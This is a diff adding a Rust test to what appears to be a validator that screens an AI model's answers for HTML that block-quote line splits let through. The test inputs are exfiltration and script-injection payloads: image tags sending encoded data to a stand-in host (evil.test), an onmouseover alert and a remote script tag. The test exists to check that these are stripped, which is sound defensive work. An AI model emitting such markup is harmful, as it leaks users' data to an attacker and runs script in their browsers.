@@ -760,6 +760,55 @@ fn tags_inside_a_tag_a_renderer_escapes_are_judged() {
     }
 }
 
+/// In a block quote, a renderer takes the markers off each line before it reads
+/// the line's HTML. A tag that goes on over the next line of the quote is, to it,
+/// one tag without the marker: `> Hi <img\n> src=https://…>` loads the image. A
+/// browser reading the text as written ends the tag at the marker, and so did the
+/// validator, which saw a harmless `<img\n>` (found by the `markup` fuzz target
+/// reading `comrak`'s raw HTML, as `<style` inside a tag a renderer escapes).
+#[test]
+fn a_tag_that_goes_on_over_a_quoted_line_is_judged_as_the_quote_reads() {
+    let (g, _) = guard_with(AnswerValidator::new(), |_| {});
+    let data = "T3JkZXIgNDQyMSBzaGlwcGVkIHRvIHRoZSBjdXN0b21lcg";
+    for (answer, live) in [
+        (
+            format!("> Hi <img\n> src=https://evil.test/p.png?d={data}> there"),
+            data.to_owned(),
+        ),
+        // Nested quotes, a quote in a list item, a tab after the marker.
+        (
+            format!("- > > Hi <img\n  > > src=\"https://evil.test/p.png?d={data}\">"),
+            data.to_owned(),
+        ),
+        (
+            "> <div\n>\tonmouseover=alert(1)>x</div>".to_owned(),
+            "<div".to_owned(),
+        ),
+        // Inside a tag a renderer escapes (the fuzzer's input).
+        ("><t<style\r>e>".to_owned(), "<style".to_owned()),
+        (
+            "> Hi <T [x]<script\n> src=https://evil.test/x.js></script>".to_owned(),
+            "<script".to_owned(),
+        ),
+    ] {
+        let whole = whole_outcome(&g, request(None), &answer).unwrap();
+        assert!(!whole.contains(&live), "{answer:?} -> {whole:?}");
+        for n in [1, 7, 64] {
+            let streamed = stream_outcome(&g, request(None), &in_pieces(&answer, n)).unwrap();
+            assert_eq!(streamed, whole, "{answer:?} in {n}-byte deltas");
+        }
+        released_validates_clean(&g, &answer);
+    }
+    // Quoted tags that load and run nothing stay as written.
+    for answer in [
+        "> Hi <b\n> title=x>bold</b> there",
+        "> a <span\n>  class=x>y</span>",
+        "> quoted\n\nHi <i>x</i>",
+    ] {
+        assert_eq!(whole_outcome(&g, request(None), answer).unwrap(), answer);
+    }
+}
+
 /// cmark-gfm (GitHub's renderer, and `comrak`) keeps where it last saw each
 /// length of backtick string, and after a backtick that opens no code span it
 /// misses the next code span of a length it passed: ``` ``x `a` and `<img …>` ```
